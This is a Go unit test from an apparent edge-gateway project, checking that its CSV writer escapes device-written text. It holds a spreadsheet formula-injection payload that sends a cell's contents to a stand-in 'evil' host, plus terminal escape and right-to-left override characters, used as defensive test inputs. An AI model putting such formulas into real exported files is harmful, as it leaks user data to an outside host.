package main

import (
	"bytes"
	"strings"
	"testing"

	"github.com/edge-gateway/edge-gateway/pkg/frame"
	"github.com/edge-gateway/edge-gateway/pkg/visible"
)

// TestTextsOfADeviceInCSV: neither a terminal nor a spreadsheet obeys what a device wrote.
func TestTextsOfADeviceInCSV(t *testing.T) {
	const formula = `=HYPERLINK("http://evil/"&A1)`
	set := &frame.TagSet{Driver: "-driver", Tags: []frame.Tag{{Name: "@tag", Unit: formula}, {Name: "n"}}}
	b := &frame.Batch{FirstSeq: 1, Set: set, Frames: []frame.Frame{
		{Value: frame.StringValue(formula)}, {Value: frame.StringValue("\x1b[2J\u202e")}, {Value: frame.IntValue(-5), Tag: 1}, {Value: frame.FloatValue(-0.5), Tag: 1},
	}}
	var out bytes.Buffer
	w := newFrameWriter(&out, formatCSV, 0)
	if err := w.write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.flush(); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`'@tag,"'=HYPERLINK(""http://evil/""&A1)","'=HYPERLINK(""http://evil/""&A1)",good,'-driver`, "n,-5,", "n,-0.5,"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("it lacks %s:\n%s", want, out.String())
		}
	}
	for _, r := range out.String() {
		if r != '\n' && r != '\ufffd' && visible.Hidden(r) {
			t.Errorf("%U is in it", r)
		}
	}
}
